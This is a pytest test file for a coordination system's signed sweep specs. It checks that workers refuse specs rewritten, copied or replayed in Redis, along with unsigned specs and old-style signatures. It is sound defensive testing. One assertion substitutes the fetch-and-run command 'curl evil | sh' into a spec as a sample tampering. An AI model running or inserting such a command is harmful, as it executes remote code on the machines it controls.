"""Signed sweep specs: a command rewritten in Redis by someone without the key never runs.

Redis write access is the attacker here: every test writes into the sweep record
what such an attacker could, then asks a worker (``run_todo``, as a Celery task
does) to run a todo, and checks that nothing of it ran and that the sweep ended
``failed`` with a reason naming the signature (never left ``running``).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from coordination.dispatch import CeleryDispatcher
from coordination.runtime.context import Runtime
from coordination.settings import Settings
from coordination.sweeps import SweepService
from coordination.sweeps.spec import SweepSpec
from coordination.sweeps.spec_store import _spec_cache, cached_spec, load_spec
from coordination.trust import signing
from coordination.trust.signing import Policy
from tests.unit.support.sweeps import PLAN, StubApp, fresh_runtime, write_catalog
from workers.runner import Outcome, WorkerInfo, run_todo

KEY = "s3cret-signing-key"
pytestmark = [pytest.mark.timeout(60), pytest.mark.signed(key=KEY, stub=True)]

W = WorkerInfo(repo=None, name="test-worker")
SPEC = json.dumps({"todos": {"TODO-001": {"run": "make test"}}, "plan": "PLAN-001"})
SIGNED = Policy(keys=("k1",))


def test_a_signature_is_for_one_sweep_one_run_and_one_text() -> None:
    sig = signing.sign("S1", 0, SPEC, "k1")
    assert sig["spec_sig"].startswith("v2:") and sig["spec_key_id"] == signing.key_id("k1")

    def why(sweep: str = "S1", run: int = 0, text: str = SPEC, policy: Policy = SIGNED,
            **fields: Any) -> str | None:
        f = {**sig, **fields}
        return signing.refusal(sweep, run, text, f.get("spec_sig"), f.get("spec_key_id"), policy)

    assert why() is None
    assert "changed, or copied" in (why(text=SPEC.replace("make test", "curl evil | sh")) or "")
    # (b) the same text and signature in another sweep's record
    assert "copied from another sweep" in (why(sweep="S2") or "")
    # (c) ... or as another run of the same sweep
    assert "copied from another sweep or run" in (why(run=1) or "")
    # Exact bytes: even a re-spaced spec is not the one signed.
    assert why(text=json.dumps(json.loads(SPEC), indent=2)) is not None
    assert "does not hold" in (why(policy=Policy(keys=("k2",))) or "")
    assert "unsigned" in (why(spec_sig=None, spec_key_id=None) or "")
    # Rotation: the previous key still verifies.
    assert why(policy=Policy(keys=("k2", "k1"))) is None
    for w in (why(run=1), why(policy=Policy(keys=("k2",)))):
        assert w is not None and w.startswith("spec signature invalid") and "k1" not in w


def test_a_signature_of_coord_0_2_is_refused_naming_the_upgrade() -> None:
    import hashlib
    import hmac

    old = hmac.new(b"k1", SPEC.encode(), hashlib.sha256).hexdigest()  # 0.2: the spec alone
    why = signing.refusal("S1", 0, SPEC, old, signing.key_id("k1"), SIGNED) or ""
    assert "0.2" in why and "coord 0.3" in why


def test_who_runs_what_without_a_key() -> None:
    sig = signing.sign("S1", 0, SPEC, "k1")

    def why(signed: bool, accept_unsigned: bool = False,
            require_signed: bool = False) -> str | None:
        s = sig if signed else {}
        return signing.refusal("S1", 0, SPEC, s.get("spec_sig"), s.get("spec_key_id"),
                               Policy(accept_unsigned=accept_unsigned,
                                      require_signed=require_signed))

    # (d) a signed spec: refused unless COORD_ACCEPT_UNSIGNED=1
    assert why(True) == ("spec signed but this worker has no key: give it COORD_SIGNING_KEY "
                         "(or COORD_ACCEPT_UNSIGNED=1 to run signed sweeps unchecked)")
    assert why(True, accept_unsigned=True) is None
    # (e) an unsigned spec: run, unless COORD_REQUIRE_SIGNED=1 (which wins over accepting)
    assert why(False) is None
    assert "COORD_REQUIRE_SIGNED=1" in (why(False, require_signed=True) or "")
    assert why(True, accept_unsigned=True, require_signed=True) is not None


def worker(rt: Runtime, **settings: Any) -> Runtime:
    """A worker on the same Redis with its own settings (no key unless given)."""
    s = Settings(**{"signing_key": None, "signing_key_previous": None, **settings})
    other = Runtime.create(s, client=rt.redis)
    other.dispatcher = rt.dispatcher
    return other


def start(rt: Runtime, root: Path, marker: Path, *, second: str = "true") -> str:
    cat = write_catalog(root, [
        {"id": "TODO-001", "repo": "api", "run": f"touch {marker}"},
        {"id": "TODO-002", "repo": "api", "run": second, "blocked_by": ["TODO-001"]},
    ], repos=("api",))
    return SweepService(rt, cat).start(PLAN, strategy="levels", ignore_blockers=True)


def rewrite(rt: Runtime, sid: str, todo_id: str, command: str) -> None:
    """What anyone with write access to Redis can do: change a command of the spec."""
    key = rt.keys.sweep(sid)
    spec = json.loads(json.loads(str(rt.redis.hget(key, "spec"))))
    spec["todos"][todo_id]["run"] = command
    rt.redis.hset(key, "spec", json.dumps(json.dumps(spec)))  # fields hold JSON text


def ended_failed(rt: Runtime, sid: str, *words: str) -> str:
    """The sweep ended failed (not left running) with a reason naming ``words``."""
    rec = rt.checkpoints.get_sweep(sid) or {}
    reason = str(rec.get("reason"))
    assert rec.get("status") == "failed", rec.get("status")
    assert all(w in reason for w in words), reason
    return reason


def test_signed_spec_runs(signed_rt: Runtime, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path / "eco", marker)
    rec = signed_rt.checkpoints.get_sweep(sid) or {}
    assert rec["spec_key_id"] == signing.key_id(KEY)
    assert "s3cret" not in json.dumps(rec)
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W, 0)
    assert detail["status"] == "succeeded" and marker.exists()


def test_rotation_keeps_working(signed_rt: Runtime, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path / "eco", marker)  # signed with KEY
    _spec_cache.clear()
    rotated = worker(signed_rt, signing_key="the-new-key", signing_key_previous=KEY)
    outcome, detail = run_todo(rotated, sid, "TODO-001", W, 0)
    assert detail["status"] == "succeeded" and marker.exists()


def test_command_rewritten_in_redis_never_runs(signed_rt: Runtime, tmp_path: Path) -> None:
    marker, evil = tmp_path / "ran", tmp_path / "pwned"
    sid = start(signed_rt, tmp_path / "eco", marker)
    rewrite(signed_rt, sid, "TODO-001", f"touch {evil}")
    _spec_cache.clear()  # a worker that never saw the honest spec
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W, 0)
    assert outcome is Outcome.done and detail["status"] == "failed"
    assert not evil.exists() and not marker.exists()
    cp = signed_rt.checkpoints.get(sid, "TODO-001") or {}
    assert cp["status"] == "failed" and str(cp["reason"]).startswith("spec signature invalid")
    evs = [e for e in signed_rt.events.read(sweep_id=sid) if e.todo_id == "TODO-001"]
    assert any(e.kind == "todo.failed" and e.data.get("refused") for e in evs)
    assert (signed_rt.checkpoints.get(sid, "TODO-002") or {})["status"] == "cancelled"
    ended_failed(signed_rt, sid, "spec signature invalid", "test-worker", "TODO-001")


def test_a_spec_evicted_from_the_cache_is_checked_again(
    signed_rt: Runtime, tmp_path: Path
) -> None:
    """(a) The worker ran TODO-001 of the honest spec, so it had checked it; the spec
    then left its cache (other sweeps' specs took the room) and was rewritten in
    Redis. TODO-002's message comes: the worker reads the rewritten spec, and
    checks it again (the verdict went with the honest bytes)."""
    marker, evil = tmp_path / "ran", tmp_path / "pwned"
    sid = start(signed_rt, tmp_path / "eco", marker)
    assert run_todo(signed_rt, sid, "TODO-001", W, 0)[1]["status"] == "succeeded"
    for i in range(33):  # the cache keeps 32 specs
        other = f"other-{i}"
        spec = SweepSpec(sweep_id=other, plan=PLAN, strategy="levels", run=0, todos={},
                         levels=[], concurrency={})
        signed_rt.checkpoints.create_sweep(other, {"status": "succeeded", "run": 0,
                                                   "spec": spec.to_json()})
        assert load_spec(signed_rt, other) is not None
    assert cached_spec(sid, 0) is None  # evicted
    rewrite(signed_rt, sid, "TODO-002", f"touch {evil}")
    outcome, detail = run_todo(signed_rt, sid, "TODO-002", W, 0)
    assert detail["status"] == "failed" and "spec signature invalid" in str(detail["reason"])
    assert not evil.exists()
    ended_failed(signed_rt, sid, "spec signature invalid")


def test_a_signed_spec_copied_into_another_sweep_is_refused_there(
    signed_rt: Runtime, tmp_path: Path
) -> None:
    """(b) Sweep B's record gets sweep A's spec with its valid signature (of another
    plan, other todos): B's worker refuses it, and B ends failed at once, naming the
    signature; A is left alone."""
    a_ran = tmp_path / "a-ran"
    a = start(signed_rt, tmp_path / "a", a_ran)
    cat_b = write_catalog(tmp_path / "b", [{"id": "TODO-009", "repo": "api", "run": "true"}],
                          repos=("api",), plan="PLAN-002")
    b = SweepService(signed_rt, cat_b).start("PLAN-002", strategy="levels",
                                             ignore_blockers=True)
    a_key, b_key = signed_rt.keys.sweep(a), signed_rt.keys.sweep(b)
    a_was = (signed_rt.checkpoints.get_sweep(a) or {})["status"]
    for f in ("spec", "spec_sig", "spec_key_id"):
        signed_rt.redis.hset(b_key, f, signed_rt.redis.hget(a_key, f))
    _spec_cache.clear()
    # B's own todo (not in A's spec), then one of A's todos, as B's messages
    for todo in ("TODO-009", "TODO-001"):
        outcome, detail = run_todo(signed_rt, b, todo, W, 0)
        assert outcome is Outcome.done and detail["status"] == "failed", detail
    assert not a_ran.exists()
    cp = signed_rt.checkpoints.get(b, "TODO-009") or {}  # refused first: failed
    assert cp.get("status") == "failed" and "copied" in str(cp.get("reason")), cp
    ended_failed(signed_rt, b, "spec signature invalid", "copied from another sweep")
    st = SweepService(signed_rt).status(b)
    assert st["status"] == "failed" and "spec signature invalid" in str(st["reason"])
    # A's todos and record are untouched by what was done to B
    assert (signed_rt.checkpoints.get_sweep(a) or {})["status"] == a_was
    assert (signed_rt.checkpoints.get(a, "TODO-001") or {}).get("status") == "queued"


def test_a_copied_spec_refused_at_its_own_todo_ends_the_sweeps_todos_too(
    signed_rt: Runtime, tmp_path: Path
) -> None:
    """B, holding A's spec, is refused first at a todo of A's spec (its supervision sends
    what that spec names): B ends, and so does B's own queued todo, which the copied spec
    does not name (it was once left queued in the ended sweep, waiting for nothing)."""
    a = start(signed_rt, tmp_path / "a", tmp_path / "a-ran")
    cat_b = write_catalog(tmp_path / "b", [{"id": "TODO-009", "repo": "api", "run": "true"}],
                          repos=("api",), plan="PLAN-002")
    b = SweepService(signed_rt, cat_b).start("PLAN-002", strategy="levels",
                                             ignore_blockers=True)
    assert (signed_rt.checkpoints.get(b, "TODO-009") or {}).get("status") == "queued"
    for f in ("spec", "spec_sig", "spec_key_id"):
        signed_rt.redis.hset(signed_rt.keys.sweep(b), f,
                             signed_rt.redis.hget(signed_rt.keys.sweep(a), f))
    _spec_cache.clear()
    outcome, detail = run_todo(signed_rt, b, "TODO-001", W, 0)
    assert outcome is Outcome.done and detail["status"] == "failed", detail
    ended_failed(signed_rt, b, "spec signature invalid", "at TODO-001")
    cp = signed_rt.checkpoints.get(b, "TODO-009") or {}
    assert cp.get("status") == "cancelled", cp
    assert "spec signature invalid" in str(cp.get("reason")), cp
    assert signed_rt.checkpoints.own_todos(b) == ["TODO-009"]


def test_an_unsigned_spec_copied_into_another_sweep_ends_it_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without signing, a spec copied from another sweep still never hangs the sweep
    it was copied into (its todos would be recorded in the other sweep)."""
    monkeypatch.delenv("COORD_SIGNING_KEY", raising=False)
    rt = fresh_runtime()
    rt.dispatcher = CeleryDispatcher(StubApp(), rt.keys)
    a = start(rt, tmp_path / "a", tmp_path / "a-ran")
    b = start(rt, tmp_path / "b", tmp_path / "b-ran")
    a_was = (rt.checkpoints.get_sweep(a) or {})["status"]
    rt.redis.hset(rt.keys.sweep(b), "spec", rt.redis.hget(rt.keys.sweep(a), "spec"))
    _spec_cache.clear()
    outcome, detail = run_todo(rt, b, "TODO-001", W, 0)
    assert detail["status"] == "failed" and not (tmp_path / "a-ran").exists()
    ended_failed(rt, b, f"run 0 of sweep {a}, recorded as run 0 of sweep {b}")
    assert (rt.checkpoints.get_sweep(a) or {})["status"] == a_was
    assert (rt.checkpoints.get(a, "TODO-001") or {}).get("status") == "queued"


def test_a_spec_replayed_over_another_run_is_refused(signed_rt: Runtime, tmp_path: Path) -> None:
    """(c) Run 0's signed spec written back over the record at run 1: refused."""
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path / "eco", marker)
    key = signed_rt.keys.sweep(sid)
    spec = json.loads(json.loads(str(signed_rt.redis.hget(key, "spec"))))
    spec["run"] = 1  # the text says run 1 too: only the signature can tell
    signed_rt.redis.hset(key, mapping={"run": "1", "spec": json.dumps(json.dumps(spec))})
    _spec_cache.clear()
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W, 1)
    assert detail["status"] == "failed" and not marker.exists()
    ended_failed(signed_rt, sid, "spec signature invalid", "sweep or run")


def test_a_worker_without_a_key_refuses_a_signed_sweep(signed_rt: Runtime, tmp_path: Path) -> None:
    """(d) ... unless COORD_ACCEPT_UNSIGNED=1."""
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path / "eco", marker)
    accepting = worker(signed_rt, accept_unsigned=True)
    assert run_todo(accepting, sid, "TODO-001", W, 0)[1]["status"] == "succeeded"
    assert marker.exists()
    marker.unlink()
    keyless = worker(signed_rt)
    outcome, detail = run_todo(keyless, sid, "TODO-002", W, 0)
    assert detail["status"] == "failed" and not marker.exists()
    assert str(detail["reason"]).startswith("spec signed but this worker has no key")
    ended_failed(signed_rt, sid, "spec signed but this worker has no key")


def test_require_signed_refuses_an_unsigned_spec(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """(e) COORD_REQUIRE_SIGNED=1 on a worker, even one without a key."""
    monkeypatch.delenv("COORD_SIGNING_KEY", raising=False)
    rt = fresh_runtime()
    rt.dispatcher = CeleryDispatcher(StubApp(), rt.keys)
    marker = tmp_path / "ran"
    sid = start(rt, tmp_path / "eco", marker)
    assert (rt.checkpoints.get_sweep(sid) or {}).get("spec_sig") is None
    strict = worker(rt, require_signed=True, accept_unsigned=True)
    outcome, detail = run_todo(strict, sid, "TODO-001", W, 0)
    assert detail["status"] == "failed" and not marker.exists()
    ended_failed(rt, sid, "unsigned", "COORD_REQUIRE_SIGNED=1")


def test_require_signed_is_read_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COORD_REQUIRE_SIGNED", "1")
    monkeypatch.setenv("COORD_ACCEPT_UNSIGNED", "1")
    s = Settings()
    assert s.require_signed and s.accept_unsigned


def test_unsigned_spec_is_refused_by_a_worker_with_a_key(signed_rt: Runtime, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path / "eco", marker)
    signed_rt.checkpoints.update_sweep(sid, spec_sig=None, spec_key_id=None)
    _spec_cache.clear()
    outcome, detail = run_todo(signed_rt, sid, "TODO-001", W, 0)
    assert detail["status"] == "failed" and "unsigned" in str(detail["reason"])
    assert not marker.exists()


def test_no_key_holder_signs_a_resume_of_a_rewritten_spec(
    signed_rt: Runtime, tmp_path: Path
) -> None:
    """A resume keeps the spec's todos that succeeded and signs the whole: of a spec
    rewritten in Redis it would sign the attacker's commands. Refused, nothing reset."""
    from coordination.trust.signing import SpecRefused

    marker = tmp_path / "ran"
    sid = start(signed_rt, tmp_path / "eco", marker, second="false")
    assert run_todo(signed_rt, sid, "TODO-001", W, 0)[1]["status"] == "succeeded"
    assert run_todo(signed_rt, sid, "TODO-002", W, 0)[1]["status"] == "failed"
    assert (signed_rt.checkpoints.get_sweep(sid) or {})["status"] == "failed"
    rewrite(signed_rt, sid, "TODO-001", f"touch {tmp_path / 'pwned'}")  # kept by a resume
    _spec_cache.clear()  # the CLI that resumes is another process
    cat = tmp_path / "eco" / "ecosystem.yaml"
    with pytest.raises(SpecRefused, match="spec signature invalid"):
        SweepService(signed_rt, cat).resume(sid)
    rec = signed_rt.checkpoints.get_sweep(sid) or {}
    assert rec["status"] == "failed" and rec["run"] == 0
    assert (signed_rt.checkpoints.get(sid, "TODO-002") or {})["status"] == "failed"


def test_no_key_holder_signs_a_rollback_of_a_rewritten_spec(
    signed_rt: Runtime, tmp_path: Path
) -> None:
    """A rollback's run is made from the spec as stored (its undo: commands) and signed:
    of a spec rewritten in Redis it would sign the attacker's undo. Refused where the
    stored spec is read (the signing itself checks nothing again), nothing written."""
    from coordination.trust.signing import SpecRefused

    sid = start(signed_rt, tmp_path / "eco", tmp_path / "ran", second="false")
    assert run_todo(signed_rt, sid, "TODO-001", W, 0)[1]["status"] == "succeeded"
    assert run_todo(signed_rt, sid, "TODO-002", W, 0)[1]["status"] == "failed"
    key = signed_rt.keys.sweep(sid)
    spec = json.loads(json.loads(str(signed_rt.redis.hget(key, "spec"))))
    spec["todos"]["TODO-001"]["undo"] = f"touch {tmp_path / 'pwned'}"
    signed_rt.redis.hset(key, "spec", json.dumps(json.dumps(spec)))
    _spec_cache.clear()  # the CLI that rolls back is another process
    with pytest.raises(SpecRefused, match="spec signature invalid"):
        SweepService(signed_rt, tmp_path / "eco" / "ecosystem.yaml").rollback(sid)
    rec = signed_rt.checkpoints.get_sweep(sid) or {}
    assert rec["status"] == "failed" and rec["run"] == 0 and rec.get("spec_sig")
    assert (signed_rt.checkpoints.get(sid, "TODO-001") or {})["status"] == "succeeded"


def test_the_starting_process_keeps_the_spec_it_wrote_with_the_verdict_a_read_gives(
    signed_rt: Runtime, tmp_path: Path
) -> None:
    """The process that starts a sweep caches the spec it has just written (its waiting
    CLI supervises the sweep without reading it back), checked on the text it wrote:
    the verdict is the one a read of the record gives, refusal included."""
    from coordination.sweeps.spec_store import cached_checked, load_checked

    _spec_cache.clear()
    sid = start(signed_rt, tmp_path / "eco", tmp_path / "ran")
    held = cached_checked(signed_rt, sid, 0)
    assert held is not None and held.spec is not None and held.refusal is None
    written = json.loads(str(signed_rt.redis.hget(signed_rt.keys.sweep(sid), "spec")))
    assert held.spec.to_json() == written
    _spec_cache.clear()
    read = load_checked(signed_rt, sid)
    assert read is not None and read.spec is not None
    assert (read.refusal, read.spec.to_json()) == (None, written)

    # Unsigned, started by a process that requires signed specs: held refused, as read.
    strict = worker(signed_rt, require_signed=True)
    _spec_cache.clear()
    sid2 = start(strict, tmp_path / "eco2", tmp_path / "ran2")
    held2 = cached_checked(strict, sid2, 0)
    assert held2 is not None and "COORD_REQUIRE_SIGNED=1" in (held2.refusal or "")
    _spec_cache.clear()
    read2 = load_checked(strict, sid2)
    assert read2 is not None and read2.refusal == held2.refusal


def test_each_run_is_written_as_one_text_signed_as_written(
    signed_rt: Runtime, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A start and a resume make the spec's text once (megabytes at 10,000 todos) and
    sign that text: what a worker reads back checks out, and the signature is over the
    very bytes in the record."""
    made: list[str] = []
    real = SweepSpec.to_json

    def to_json(self: SweepSpec) -> str:
        made.append(self.sweep_id)
        return real(self)

    monkeypatch.setattr(SweepSpec, "to_json", to_json)
    sid = start(signed_rt, tmp_path / "eco", tmp_path / "ran", second="false")
    assert made == [sid]
    policy = Policy(keys=(KEY,))

    def checks_out(run: int) -> None:
        rec = signed_rt.checkpoints.get_sweep(sid) or {}
        assert rec["run"] == run
        assert signing.refusal(sid, run, rec["spec"], rec["spec_sig"], rec["spec_key_id"],
                               policy) is None

    checks_out(0)
    assert run_todo(signed_rt, sid, "TODO-001", W, 0)[1]["status"] == "succeeded"
    assert run_todo(signed_rt, sid, "TODO-002", W, 0)[1]["status"] == "failed"
    made.clear()
    SweepService(signed_rt, tmp_path / "eco" / "ecosystem.yaml").resume(sid)
    assert made == [sid]
    checks_out(1)
